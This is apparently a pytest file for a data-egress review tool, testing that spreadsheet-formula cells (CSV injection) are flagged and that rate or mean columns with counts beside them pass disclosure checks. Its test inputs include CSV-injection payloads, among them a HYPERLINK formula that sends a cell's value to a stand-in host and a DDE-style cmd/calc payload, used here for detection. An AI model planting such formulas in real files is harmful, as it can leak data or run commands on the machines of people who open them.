"""Two verdicts the checks used to get wrong: formula-like cells (CSV injection) passed, and a column
of rates with its counts beside it went to review as "statistics without their counts"."""

from __future__ import annotations

import pandas as pd
import pytest

from egress_review.checks import FAIL, PASS, REVIEW, outcome
from egress_review.checks.i18n import Msg
from tests.unit.test_checks import cells, check


@pytest.mark.parametrize("cell", ['"=HYPERLINK(""http://x.example/?""&A2,""see"")"', "=1+2", "@SUM(A1:A3)",
                                  '"\t=cmd|\' /C calc\'!A0"', '"\r@x"'])
def test_cells_a_spreadsheet_would_run_fail_with_the_reason(tmp_path, cell):
    found = check(tmp_path, "f.csv", f"region,n\n11,40\n{cell},30\n")
    assert found["formula"]["status"] == FAIL
    assert cells(found["formula"]) == [(2, 0)]
    assert "formula" in found["formula"]["summary"]
    assert outcome(list(found.values())) == FAIL


def test_a_formula_in_the_header_fails_too(tmp_path):
    found = check(tmp_path, "h.csv", "region,=HYPERLINK(\"http://x\")\n11,40\n24,30\n")
    assert found["formula"]["status"] == FAIL and cells(found["formula"]) == [(0, 1)]


@pytest.mark.parametrize("cell", ["+cmd", "-x+1", '"\tsomething"'])
def test_signed_or_tab_led_text_goes_to_review(tmp_path, cell):
    found = check(tmp_path, "s.csv", f"region,n\n11,40\n{cell},30\n")
    assert found["formula"]["status"] == REVIEW and cells(found["formula"]) == [(2, 0)]


@pytest.mark.parametrize("cell", ["-3", "+1.5e3", "-", "--", "- ", "-1,5"])
def test_numbers_and_missing_markers_are_not_formulas(tmp_path, cell):
    found = check(tmp_path, "n.csv", f"region,n,delta\n11,40,{cell}\n24,30,2\n")
    assert "formula" not in found


def test_formulas_in_a_parquet_table_fail(tmp_path):
    pd.DataFrame({"region": ["=HYPERLINK(\"http://x\")", "24"], "n": [40, 30]}).to_parquet(tmp_path / "f.parquet")
    found = check(tmp_path, "f.parquet", (tmp_path / "f.parquet").read_bytes())
    assert found["formula"]["status"] == FAIL


def test_the_formula_verdict_is_said_in_french(tmp_path):
    found = check(tmp_path, "f.csv", "region,n\n11,40\n=1+2,30\n")
    message = found["formula"]["message"]
    french = Msg(message["msgid"], **message["params"]).said_in("fr")
    assert "formules" in french and french != found["formula"]["summary"]


def test_rates_with_their_counts_beside_them_pass(tmp_path):
    found = check(tmp_path, "r.csv", "region,n,rate\n11,120,0.35\n24,80,0.41\n32,45,0.12\n")
    assert found["statistics"]["status"] == PASS
    assert outcome(list(found.values())) == PASS


def test_means_left_of_their_counts_pass(tmp_path):
    found = check(tmp_path, "m.csv", "region,mean_age,count\n11,45.2,30\n24,51.7,25\n")
    assert found["statistics"]["status"] == PASS


def test_a_count_column_named_n_covers_statistics_not_beside_it(tmp_path):
    found = check(tmp_path, "m.csv", "region,mean,sd,n\n11,45.2,3.1,30\n24,51.7,2.2,25\n")
    assert found["statistics"]["status"] == PASS


def test_rates_whose_counts_are_small_stay_in_review_and_the_counts_fail(tmp_path):
    found = check(tmp_path, "r.csv", "region,n,rate\n11,120,0.35\n24,4,0.5\n")
    assert found["statistics"]["status"] == REVIEW
    assert found["threshold"]["status"] == FAIL and cells(found["threshold"]) == [(2, 1)]


def test_statistics_with_no_counts_still_go_to_review(tmp_path):
    found = check(tmp_path, "m.tsv", "region\tmean_age\tmedian_age\n11\t45.2\t44.5\n24\t51.7\t50.5\n")
    assert found["statistics"]["status"] == REVIEW
